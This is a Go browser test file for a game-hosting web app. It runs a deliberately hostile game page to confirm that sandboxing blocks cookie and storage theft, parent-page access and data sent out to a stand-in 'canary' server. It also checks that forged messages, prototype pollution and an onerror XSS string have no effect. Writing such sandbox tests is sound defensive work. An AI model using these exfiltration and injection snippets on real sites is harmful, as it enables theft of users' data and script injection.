package web

import (
	"context"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// browser starts a real Chromium that ends with the test.
func browser(t *testing.T) context.Context {
	t.Helper()
	path, err := exec.LookPath("chromium-headless-shell")
	if err != nil {
		t.Fatal("these tests need a browser: apt-get install chromium-headless-shell")
	}
	ctx, cancelAll := chromedp.NewExecAllocator(context.Background(), chromedp.ExecPath(path), chromedp.NoFirstRun,
		chromedp.Headless, chromedp.NoSandbox, chromedp.Flag("disable-gpu", true), chromedp.Flag("disable-dev-shm-usage", true))
	t.Cleanup(cancelAll)
	ctx, cancel := chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	if err := chromedp.Do(ctx); err != nil {
		t.Fatal(err)
	}
	return ctx
}

// tab opens a page as a person, with their cookies.
func (p *person) tab(browser context.Context, path string) context.Context {
	t := p.s.t
	t.Helper()
	ctx, cancel := chromedp.NewContext(browser, chromedp.WithNewBrowserContext())
	t.Cleanup(cancel)
	if err := chromedp.Do(ctx); err != nil {
		t.Fatal(err)
	}
	ctx, cancel = context.WithTimeout(ctx, 2*time.Minute)
	t.Cleanup(cancel)
	at, err := url.Parse(p.s.app)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range p.client.Jar.Cookies(at) {
		if _, err := chromedp.Call(ctx, network.SetCookie, network.SetCookieParams{Name: c.Name, Value: c.Value, URL: p.s.app}); err != nil {
			t.Fatal(err)
		}
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(p.s.app+path)); err != nil {
		t.Fatal(err)
	}
	return ctx
}

// evaluate runs a script in the page.
func evaluate[T any](t *testing.T, ctx context.Context, script string) T {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](script))
	if err != nil {
		t.Fatalf("%s: %v", script, err)
	}
	return v
}

// eventually waits until a script says true.
func eventually(t *testing.T, ctx context.Context, script string) {
	t.Helper()
	for {
		if evaluate[bool](t, ctx, script) {
			return
		}
		select {
		case <-ctx.Done():
			t.Fatalf("never true: %s", script)
		case <-time.After(20 * time.Millisecond):
		}
	}
}

// canary is a third party that counts who comes.
type canary struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func newCanary(t *testing.T) *canary {
	c := &canary{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.seen = append(c.seen, r.Method+" "+r.URL.String())
		c.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(c.Close)
	return c
}

func (c *canary) hits() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.seen...)
}

// hostileGame tries all that a game must not get, and tells its own host, by
// paths that do not exist, what it got.
const hostileGame = `<!doctype html><title>evil</title><body><script>
(async () => {
  const out = {}, C = "CANARY", A = "APP";
  const attempt = async (name, f) => { try { out[name] = String(await f()); } catch (e) { out[name] = "refused " + e.name; } };
  await attempt("cookie", () => document.cookie);
  await attempt("set-cookie", () => { document.cookie = "dreamcore=stolen"; return document.cookie; });
  await attempt("localStorage", () => localStorage.getItem("x"));
  await attempt("sessionStorage", () => sessionStorage.getItem("x"));
  await attempt("indexedDB", () => new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = () => ok("opened"); r.onerror = () => no(r.error); }));
  await attempt("caches", () => caches.open("x"));
  await attempt("parent DOM", () => parent.document.body.innerHTML);
  await attempt("parent location", () => parent.location.href);
  await attempt("service worker", () => navigator.serviceWorker.register("index.html"));
  await attempt("app api", () => fetch(A + "/api/health", {credentials: "include"}).then(r => r.text()));
  await attempt("fetch", () => fetch(C + "/fetch", {mode: "no-cors"}));
  await attempt("beacon", () => navigator.sendBeacon(C + "/beacon", "x") && "queued");
  await attempt("websocket", () => new Promise((ok, no) => { const w = new WebSocket(C.replace("http", "ws") + "/ws"); w.onopen = () => ok("open"); w.onerror = () => no(new Error("x")); }));
  await attempt("eventsource", () => new Promise((ok, no) => { const w = new EventSource(C + "/es"); w.onopen = () => ok("open"); w.onerror = () => no(new Error("x")); }));
  const element = (name, tag, props) => attempt(name, () => new Promise((ok, no) => {
    const e = document.createElement(tag); e.onload = () => ok("loaded"); e.onerror = () => no(new Error("x")); Object.assign(e, props); document.body.append(e); setTimeout(() => ok("silence"), 400); }));
  await element("img", "img", {src: C + "/img"});
  await element("script", "script", {src: C + "/script"});
  await element("style", "link", {rel: "stylesheet", href: C + "/style"});
  await element("prefetch", "link", {rel: "prefetch", href: C + "/prefetch"});
  await element("frame", "iframe", {src: C + "/frame"});
  await element("object", "object", {data: C + "/object"});
  await element("audio", "audio", {src: C + "/audio", preload: "auto"});
  await attempt("font", () => new FontFace("x", "url(" + C + "/font)").load());
  await attempt("form", () => { const f = document.createElement("form"); f.action = C + "/form"; f.method = "post"; document.body.append(f); f.submit(); return "submitted"; });
  await attempt("base", () => { const b = document.createElement("base"); b.href = C + "/base/"; document.head.append(b); return new Image().baseURI.startsWith(C) ? "moved" : "kept"; });
  await attempt("popup", () => window.open(C + "/popup") ? "opened" : "none");
  await attempt("top", () => { top.location = C + "/top"; return "set"; });
  await attempt("download", () => { const a = document.createElement("a"); a.href = "data:application/octet-stream,x"; a.download = "stolen.bin"; document.body.append(a); a.click(); return "clicked"; });
  await attempt("alert", () => { alert(1); return "returned"; });
  await attempt("camera", () => navigator.mediaDevices.getUserMedia({video: true}));
  await attempt("own file", () => fetch("index.html").then(r => r.status));
  for (const m of [null, "x", {type: "share"}, {dreamcore: 1, type: "share"}, {dreamcore: "2", type: "share"}, {dreamcore: 2, type: ["share"]},
    {dreamcore: 2, type: "storage", key: "__proto__", value: "{\"polluted\":1}"}, {dreamcore: 2, type: "storage", key: "big", value: "x".repeat(30000)},
    {dreamcore: 2, type: "storage", key: {}, value: "x"}, {dreamcore: 2, type: "<img src=x onerror=alert(1)>"}]) parent.postMessage(m, "*");
  addEventListener("keydown", e => fetch("key-" + e.key));
  addEventListener("message", e => { if (e.data === "say share") parent.postMessage({dreamcore: 2, type: "share"}, "*"); });
  await fetch("result?" + encodeURIComponent(JSON.stringify(out)));
})();
</script>`

// overhear records what is asked of the game host.
func (s *testStage) overhear() (results <-chan url.URL) {
	ch := make(chan url.URL, 100)
	inner := s.games
	s.games = func(w http.ResponseWriter, r *http.Request) {
		if i := strings.LastIndexByte(r.URL.Path, '/'); strings.HasPrefix(r.URL.Path[i:], "/result") || strings.HasPrefix(r.URL.Path[i:], "/key-") {
			select {
			case ch <- *r.URL:
			default:
			}
		}
		inner(w, r)
	}
	return ch
}

func heard(t *testing.T, ch <-chan url.URL) url.URL {
	t.Helper()
	select {
	case u := <-ch:
		return u
	case <-time.After(2 * time.Minute):
		t.Fatal("the game never told")
		return url.URL{}
	}
}

// TestP01P04P05P06AHostileGameGetsNothing plays a hostile game as its creator,
// with the app's cookie in the browser.
func TestP01P04P05P06AHostileGameGetsNothing(t *testing.T) {
	s := newStage(t)
	results := s.overhear()
	third := newCanary(t)
	ann := s.person()
	g, _ := ann.published("evil", strings.NewReplacer("CANARY", third.URL, "APP", s.app).Replace(hostileGame))
	page := ann.tab(browser(t), "/play/"+string(g.ID))
	downloads := t.TempDir()
	if _, err := chromedp.CallBrowser(page, cdpbrowser.SetDownloadBehavior, cdpbrowser.SetDownloadBehaviorParams{
		Behavior: "allow", DownloadPath: downloads, BrowserContextID: chromedp.FromContext(page).BrowserContextID,
	}); err != nil {
		t.Fatal(err)
	}
	if err := chromedp.Do(page, chromedp.Click("[data-play]")); err != nil {
		t.Fatal(err)
	}
	told := heard(t, results)
	raw, err := url.QueryUnescape(told.RawQuery)
	if err != nil {
		t.Fatal(err)
	}
	got := decode[map[string]string](t, raw)
	for name, want := range map[string]string{
		"cookie": "refused", "set-cookie": "refused", "localStorage": "refused", "sessionStorage": "refused", "indexedDB": "refused", "caches": "refused",
		"parent DOM": "refused", "parent location": "refused", "service worker": "refused", "app api": "refused", "fetch": "refused",
		"websocket": "refused", "eventsource": "refused", "img": "refused", "script": "refused", "style": "refused", "font": "refused",
		"base": "kept", "popup": "none", "camera": "refused",
		"own file": "200", // the twin: what is its own it does get
	} {
		if !strings.HasPrefix(got[name], want) {
			t.Errorf("%s: %q, want %s", name, got[name], want)
		}
	}
	if hits := third.hits(); len(hits) != 0 {
		t.Errorf("the third party heard of %v", hits)
	}
	if at := evaluate[string](t, page, "location.href"); at != s.PlayURL(g.ID) {
		t.Errorf("the page is at %s", at)
	}
	if !strings.Contains(s.log.String(), "game tried what its policy forbids") {
		t.Error("P06: no report was recorded")
	}
	// P04: forged messages changed nothing, neither from the game nor from
	// another window with the right words.
	evaluate[chromedp.Void](t, page, `window.postMessage({dreamcore: 2, type: "share"}, "*")`)
	if kept := evaluate[string](t, page, `String(localStorage.getItem("dreamcore.game.`+string(g.ID)+`"))`); strings.Contains(kept, "big") || strings.Contains(kept, "xxx") {
		t.Errorf("kept %.100s", kept)
	}
	if evaluate[bool](t, page, "({}).polluted !== undefined") {
		t.Error("a prototype was polluted")
	}
	if !evaluate[bool](t, page, `document.getElementById("share").hidden`) {
		t.Error("a forged message opened the share box")
	}
	// The twin: the game's own well-formed message is heard.
	evaluate[chromedp.Void](t, page, `document.querySelector("iframe").contentWindow.postMessage("say share", "*")`)
	eventually(t, page, `!document.getElementById("share").hidden`)
	// After the click the keyboard is the game's.
	if err := chromedp.Do(page, chromedp.KeyEvent(kb.ArrowRight)); err != nil {
		t.Fatal(err)
	}
	if u := heard(t, results); !strings.HasSuffix(u.Path, "/key-ArrowRight") {
		t.Errorf("the game heard %s", u.Path)
	}
	// P05: nothing was downloaded; and the twin, in our own page, is.
	if left, err := os.ReadDir(downloads); err != nil || len(left) != 0 {
		t.Errorf("downloaded %v, %v", left, err)
	}
	evaluate[chromedp.Void](t, page, `{const a = document.createElement("a"); a.href = "/static/icon.svg"; a.download = "twin.svg"; a.click()}`)
	for {
		if left, err := os.ReadDir(downloads); err != nil || len(left) > 0 {
			break
		}
		select {
		case <-page.Done():
			t.Fatal("the twin was not downloaded either: the test proves nothing")
		case <-time.After(20 * time.Millisecond):
		}
	}
	// The twin of the counting: without a policy the third party is reached.
	if res, err := http.Get(third.URL + "/twin"); err != nil || res.Body.Close() != nil || len(third.hits()) != 1 {
		t.Errorf("%v %v", third.hits(), err)
	}
}

// TestP02OneGameCannotReadAnothers plays two games on origins of their own: each
// keeps its storage, and neither sees the other's.
func TestP02OneGameCannotReadAnothers(t *testing.T) {
	s := newWildcardStage(t)
	results := s.overhear()
	ann := s.person()
	const game = `<title>g</title><script>
		const old = localStorage.getItem("secret"); localStorage.setItem("secret", location.host);
		caches.open("c").catch(() => {}).then(() => fetch("result?" + old + "/" + document.cookie));</script>`
	b := browser(t)
	ctx := ann.tab(b, "/")
	for _, wish := range []string{"one", "two", "one again"} {
		g, _ := ann.published(wish, game)
		for visit := range 2 {
			if err := chromedp.Do(ctx, chromedp.Navigate(s.app+"/play/"+string(g.ID)), chromedp.Click("[data-play]")); err != nil {
				t.Fatal(err)
			}
			want := "null/"
			if visit == 1 {
				want = string(g.ID) + "." // its own, from the first visit
			}
			if u := heard(t, results); !strings.HasPrefix(u.RawQuery, want) || strings.Contains(u.RawQuery, "dreamcore=") {
				t.Errorf("%s, visit %d: got %q, want %q", wish, visit, u.RawQuery, want)
			}
		}
	}
}

// TestTheWorkshopFollowsAJob watches a job in a browser from the queue to the
// game, without a reload by hand.
func TestTheWorkshopFollowsAJob(t *testing.T) {
	s := newStage(t)
	ann := s.person()
	b := browser(t)
	page := ann.tab(b, "/?lang=zh")
	if err := chromedp.Do(page, chromedp.SendKeys("#wish", "一个猫在天上飞的游戏"), chromedp.Click("form.wish button")); err != nil {
		t.Fatal(err)
	}
	eventually(t, page, `!!document.querySelector("[data-job]")`)
	id := evaluate[string](t, page, `document.querySelector("[data-job]").dataset.job`)
	j, err := s.db.Job(t.Context(), jobID(id))
	if err != nil || j.Wish != "一个猫在天上飞的游戏" {
		t.Fatalf("%+v %v", j, err)
	}
	s.event(j.ID, "step", "job.booting", "")
	s.event(j.ID, "say", "", "<img src=x onerror=\"window.hacked=1\">")
	eventually(t, page, `document.querySelector("[data-steps]").textContent.includes("全新的电脑") && document.querySelector("[data-says]").textContent.includes("<img")`)
	s.publish(j, "<title>飞猫</title>")
	eventually(t, page, `!!document.querySelector("[data-play]") && document.title.includes("飞猫")`)
	if evaluate[bool](t, page, `"hacked" in window || !!document.querySelector("img[src=x]")`) {
		t.Error("what the agent said became markup")
	}
	if errs := evaluate[float64](t, page, `document.querySelectorAll("[data-job]").length`); errs != 0 {
		t.Error("the job is still shown as running")
	}
}
